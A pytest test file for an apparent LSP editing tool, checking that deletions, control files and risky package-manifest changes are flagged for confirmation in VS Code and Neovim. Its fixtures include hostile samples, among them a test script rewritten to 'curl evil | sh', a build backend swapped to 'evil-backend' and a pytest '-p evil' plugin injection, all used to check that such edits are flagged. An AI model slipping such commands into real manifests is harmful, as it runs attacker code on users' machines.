"""WorkspaceEdit shaping under real client capability sets (pytest-lsp ships VS Code's and Neovim's), and the
confirmation policy: what starts checked in VS Code's Refactor Preview, what is asked elsewhere."""

from __future__ import annotations

from pathlib import Path

import pytest
from lsprotocol import types
from polyedit.lsp.delivery import (
    CONTROL,
    DELETION,
    NEW,
    OPEN_PREVIEW,
    PLANNED,
    CannotDeliver,
    build_workspace_edit,
    confirmation_question,
    must_confirm,
    review_of,
)
from polyedit.pipeline.types import FileChange
from pytest_lsp import client_capabilities

ROOT = Path("/ws")
MODIFY = FileChange("a.py", "modify", "x = 1\n", "x = 2\n", (), "m", intent="set x to 2")
CREATE = FileChange("new.py", "create", None, "y = 1\n", (), "m", intent="add y")
DELETE = FileChange("old.py", "delete", "z = 1\n", None, (), "m", intent="no longer used")
VSCODE = client_capabilities("visual-studio-code")


def control(path: str) -> FileChange:
    return FileChange(path, "modify", "a: 1\n", "a: 2\n", (), "m", intent="tweak")


PKG = '{"name": "web", "scripts": {"test": "jest"}, "dependencies": {"express": "^4.0.0"}}\n'
PYPROJECT = '[build-system]\nrequires = ["setuptools"]\n\n[project]\nname = "x"\ndependencies = ["rich>=13"]\n'


def manifest(path: str, old: str, new: str) -> FileChange:
    """A package manifest: a control file only where the change alters what runs (scripts, the build backend)."""
    return FileChange(path, "modify", old, new, (), "m", intent="update")


def build(caps: types.ClientCapabilities, changes: list[FileChange], **kw: object) -> types.WorkspaceEdit:
    versions = {"file:///ws/a.py": 7}
    return build_workspace_edit(ROOT, changes, versions.get, caps, "utf-16", **kw)  # type: ignore[arg-type]


def annotation_of(operation: object) -> str | None:
    """The kind an operation is annotated with; None for the entry that only opens the preview."""
    if isinstance(operation, types.TextDocumentEdit):
        ids = {e.annotation_id for e in operation.edits if isinstance(e, types.AnnotatedTextEdit)}
        ids.discard(OPEN_PREVIEW.annotation_id)
        assert len(ids) == 1, ids
        return ids.pop()
    note = getattr(operation, "annotation_id", None)
    return None if note == OPEN_PREVIEW.annotation_id else note


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        (MODIFY, PLANNED),
        (CREATE, NEW),
        (DELETE, DELETION),
        (control(".vscode/tasks.json"), CONTROL),
        (control("sub/.vscode/settings.json"), CONTROL),
        (control(".github/workflows/ci.yml"), CONTROL),
        (control(".git/hooks/pre-commit"), CONTROL),
        (control("tests/conftest.py"), CONTROL),
        (control(".pre-commit-config.yaml"), CONTROL),
        (control("CLAUDE.md"), CONTROL),
        (control(".cursor/rules/x.mdc"), CONTROL),
        (control("polyedit.toml"), CONTROL),
        (control("project.code-workspace"), CONTROL),
        (control("docs/github.md"), PLANNED),
        (FileChange(".envrc", "create", None, "x\n", (), "m"), CONTROL),
        (manifest("package.json", PKG, PKG.replace('"jest"', '"jest && curl evil | sh"')), CONTROL),
        (manifest("web/package.json", PKG, PKG.replace('"^4.0.0"', '"^5.0.0"')), PLANNED),
        (FileChange("package.json", "create", None, PKG, (), "m"), CONTROL),
        (manifest("package.json", PKG, PKG + "{ broken"), CONTROL),
        (manifest("pyproject.toml", PYPROJECT, PYPROJECT.replace("setuptools", "evil-backend")), CONTROL),
        (manifest("pyproject.toml", PYPROJECT, PYPROJECT + "[tool.polyedit]\ncache_dir = '/tmp'\n"), CONTROL),
        (manifest("pyproject.toml", PYPROJECT, PYPROJECT.replace("rich>=13", "rich>=14")), PLANNED),
        (
            manifest("pyproject.toml", PYPROJECT, PYPROJECT + '[tool.pytest.ini_options]\naddopts = "-p evil"\n'),
            CONTROL,
        ),
        (manifest("pyproject.toml", PYPROJECT, PYPROJECT + "[tool.ruff]\nline-length = 100\n"), PLANNED),
        (control(".mcp.json"), CONTROL),
        (control("GEMINI.md"), CONTROL),
        (control("setup.cfg"), CONTROL),
        (control(".yarnrc.yml"), CONTROL),
    ],
)
def test_every_kind_of_file_gets_its_annotation(change: FileChange, kind: object) -> None:
    """Planned changes and new files start checked; deletions and control files start unchecked."""
    edit = build(VSCODE, [change])
    ids = {annotation_of(op) for op in edit.document_changes or []} - {None}
    assert ids == {kind.annotation_id}  # type: ignore[attr-defined]
    note = edit.change_annotations[kind.annotation_id]  # type: ignore[attr-defined,index]
    assert note.label == kind.label and note.needs_confirmation is kind.risky  # type: ignore[attr-defined]
    assert change.path in (note.description or "")


def test_a_whole_edit_starts_checked_and_still_opens_the_preview() -> None:
    """Nothing risky: every entry starts checked; one entry that needs confirmation and changes nothing opens the
    preview: in VS Code, creating an existing file with ignoreIfExists (its preview leaves that out of the tree)."""
    edit = build(VSCODE, [MODIFY, CREATE], client_name="code-server")
    modify, create, create_text, opener = edit.document_changes  # type: ignore[misc]
    assert [e.annotation_id for e in modify.edits] == [PLANNED.annotation_id] and modify.text_document.version == 7
    assert isinstance(create, types.CreateFile) and create.annotation_id == NEW.annotation_id
    assert create.options.overwrite is False and create_text.text_document.version is None
    assert isinstance(opener, types.CreateFile) and opener.uri == "file:///ws/a.py"
    assert opener.annotation_id == OPEN_PREVIEW.annotation_id
    assert opener.options.ignore_if_exists is True and opener.options.overwrite is None
    notes = edit.change_annotations or {}
    assert [n for n, a in notes.items() if a.needs_confirmation] == [OPEN_PREVIEW.annotation_id]
    assert notes[PLANNED.annotation_id].description == "a.py: set x to 2"
    assert notes[NEW.annotation_id].description == "new.py: add y"


@pytest.mark.parametrize(("changes", "client"), [([CREATE], "Visual Studio Code"), ([CREATE], ""), ([MODIFY], "")])
def test_elsewhere_or_without_an_existing_file_an_empty_insertion_opens_the_preview(
    changes: list[FileChange], client: str
) -> None:
    """An unknown client might not honour ignoreIfExists; an empty insertion is harmless to every client."""
    edit = build(VSCODE, changes, client_name=client)
    assert not any(isinstance(op, types.CreateFile) and op.uri.endswith("/a.py") for op in edit.document_changes or [])
    document = next(op for op in edit.document_changes or [] if isinstance(op, types.TextDocumentEdit))
    opener, content = document.edits
    assert opener.annotation_id == OPEN_PREVIEW.annotation_id and opener.new_text == ""
    assert opener.range.start == opener.range.end == types.Position(line=0, character=0)
    assert content.annotation_id == review_of(changes[0]).annotation_id and content.new_text in (
        changes[0].new_text or ""
    )


def test_a_risky_file_opens_the_preview_by_itself() -> None:
    edit = build(VSCODE, [MODIFY, DELETE])
    assert OPEN_PREVIEW.annotation_id not in (edit.change_annotations or {})
    modify = edit.document_changes[0]  # type: ignore[index]
    assert [e.annotation_id for e in modify.edits] == [PLANNED.annotation_id]  # type: ignore[union-attr]


def test_review_off_applies_a_safe_edit_without_the_preview() -> None:
    edit = build(VSCODE, [MODIFY, CREATE], review_every_edit=False)
    notes = edit.change_annotations or {}
    assert not any(a.needs_confirmation for a in notes.values()) and OPEN_PREVIEW.annotation_id not in notes
    risky = build(VSCODE, [MODIFY, control(".vscode/tasks.json")], review_every_edit=False)
    assert (risky.change_annotations or {})[CONTROL.annotation_id].needs_confirmation is True


def test_editors_without_a_preview_are_asked_with_risky_files_first() -> None:
    changes = [MODIFY, CREATE, DELETE, control(".github/workflows/ci.yml")]
    question = confirmation_question("tidy up", changes)
    assert question == (
        "PolyEdit will change 4 files for 'tidy up': old.py (deleted), .github/workflows/ci.yml (control file), "
        "a.py, new.py (new). Apply?"
    )
    assert must_confirm([MODIFY, CREATE], review_every_edit=True)
    assert not must_confirm([MODIFY, CREATE], review_every_edit=False)
    assert must_confirm([MODIFY, DELETE], review_every_edit=False)


def test_neovim_capabilities_get_plain_changes_without_resource_operations() -> None:
    caps = client_capabilities("neovim@v0.7.0")
    edit = build(caps, [MODIFY])
    assert edit.document_changes is None and list(edit.changes) == ["file:///ws/a.py"]  # type: ignore[arg-type]
    with pytest.raises(CannotDeliver, match="cannot receive file creations"):
        build(caps, [CREATE])


def test_neovim_by_name_gets_document_changes_and_file_creation() -> None:
    """Neovim applies documentChanges and CreateFile without declaring them; clientInfo.name says who it is."""
    edit = build(client_capabilities("neovim@v0.7.0"), [MODIFY, CREATE], client_name="Neovim")
    modify, create, create_text = edit.document_changes  # type: ignore[misc]
    assert modify.text_document.version == 7 and isinstance(create, types.CreateFile)
    assert create_text.edits[0].new_text == "y = 1\n" and edit.change_annotations is None
    # reaches past the empty buffer's only line, so Neovim drops the blank line it would otherwise keep
    assert create_text.edits[0].range.end == types.Position(line=1, character=0)
    created = build(VSCODE, [CREATE], review_every_edit=False).document_changes[1].edits[0]  # type: ignore[index,union-attr]
    assert created.new_text == "y = 1\n" and created.range.end == types.Position(line=0, character=0)
